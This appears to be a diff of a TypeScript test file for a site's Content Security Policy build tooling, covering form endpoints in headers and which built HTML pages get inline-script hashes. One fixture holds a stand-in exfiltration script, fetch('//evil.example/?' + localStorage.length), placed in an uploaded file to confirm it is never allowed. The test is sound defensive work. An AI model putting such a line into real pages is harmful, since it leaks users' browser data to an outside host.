@@ -1,9 +1,13 @@
 import { createHash } from "node:crypto";
-import { describe, expect, it } from "vitest";
+import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
 import { formsCspSources } from "../app/forms/csp-sources";
 import { resolveFormsSettings } from "../app/forms/settings";
-import { inlineScriptHashes, urlsForFile } from "./csp";
-import { renderHeadersFile, renderNginxHeaders, renderScriptHashMap } from "./host-config";
+import { renderHeadersFile } from "./cdn-headers";
+import { collectPageHashes, fileForPath, inlineScriptHashes, urlsForFile } from "./csp";
+import { renderNginxHeaders, renderScriptHashMap } from "./host-config";
 import { contentSecurityPolicy } from "./security-headers";
 
 const sha = (text: string) => `sha256-${createHash("sha256").update(text).digest("base64")}`;
@@ -93,19 +97,77 @@ describe("host configurations", () => {
   });
 
   it("lets form delivery reach the configured endpoint's origin from both host configurations, and nothing else", () => {
-    const forms = formsCspSources(resolveFormsSettings(undefined, { FORMS_ENDPOINT: "https://forms.halcyrion.example/leads" }));
+    const forms = formsCspSources(
+      resolveFormsSettings(undefined, { FORMS_ENDPOINT: "https://forms.halcyrion.example/leads" }),
+    );
     const nginx = renderNginxHeaders(forms);
     expect(nginx).toContain("connect-src 'self' https://forms.halcyrion.example;");
     expect(nginx).toContain("form-action 'self' mailto: https://forms.halcyrion.example;");
     const headers = renderHeadersFile("{{page-csp}}\n", pages, [], forms);
-    expect(headers.match(/connect-src 'self' https:\/\/forms\.halcyrion\.example;/g)).toHaveLength(4);
+    expect(headers.match(/connect-src 'self' https:\/\/forms\.halcyrion\.example;/g)).toHaveLength(
+      4,
+    );
     expect(headers).not.toContain("/leads");
   });
 
   it("writes the same headers as before when no form provider is configured", () => {
     const none = formsCspSources(resolveFormsSettings(undefined, {}));
     expect(renderNginxHeaders(none)).toBe(renderNginxHeaders());
-    expect(renderHeadersFile("{{page-csp}}\n", pages, [], none)).toBe(renderHeadersFile("{{page-csp}}\n", pages));
+    expect(renderHeadersFile("{{page-csp}}\n", pages, [], none)).toBe(
+      renderHeadersFile("{{page-csp}}\n", pages),
+    );
     expect(renderNginxHeaders()).toContain("connect-src 'self'; worker-src");
+  });
+});
+
+describe("which HTML gets its inline scripts allowed", () => {
+  let dir = "";
+  afterEach(() => rm(dir, { recursive: true, force: true }));
+  const page = (script: string) =>
+    `<!doctype html><html><body><script>${script}</script></body></html>`;
+  async function site(files: Record<string, string>) {
+    dir = await mkdtemp(path.join(tmpdir(), "halcyrion-csp-"));
+    for (const [file, html] of Object.entries(files)) {
+      await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
+      await writeFile(path.join(dir, file), html);
+    }
+    return dir;
+  }
+
+  it("hashes the site's pages and the 404 page, never an uploaded HTML file", async () => {
+    const clientDir = await site({
+      "index.html": page("home()"),
+      "services/index.html": page("services()"),
+      "404.html": page("notFound()"),
+      "media/brochure.html": page("fetch('//evil.example/?' + localStorage.length)"),
+      "google1234.html": page("verify()"),
+    });
+    const pages = await collectPageHashes(clientDir, ["/", "/services"]);
+    expect(pages.map((p) => p.file)).toEqual(["404.html", "index.html", "services/index.html"]);
+    const evil =
+      inlineScriptHashes(page("fetch('//evil.example/?' + localStorage.length)"))[0] ?? "";
+    const nginxMap = renderScriptHashMap(pages);
+    const headers = renderHeadersFile("{{page-csp}}\n", pages);
+    for (const config of [nginxMap, headers]) {
+      expect(config).toContain(inlineScriptHashes(page("services()"))[0]);
+      expect(config).not.toContain(evil);
+      expect(config).not.toContain("/media/");
+      expect(config).not.toContain(inlineScriptHashes(page("verify()"))[0]);
+    }
+  });
+
+  it("stops the build, naming the file, when a listed page was not built", async () => {
+    const clientDir = await site({ "index.html": page("home()"), "404.html": page("notFound()") });
+    await expect(collectPageHashes(clientDir, ["/", "/blog/draft"])).rejects.toThrow(
+      /blog\/draft\/index\.html is missing/,
+    );
+  });
+
+  it("finds a page's file where static hosts serve it", () => {
+    expect(["/", "/services", "/company/careers/apply"].map(fileForPath)).toEqual([
+      "index.html",
+      "services/index.html",
+      "company/careers/apply/index.html",
+    ]);
   });
 });
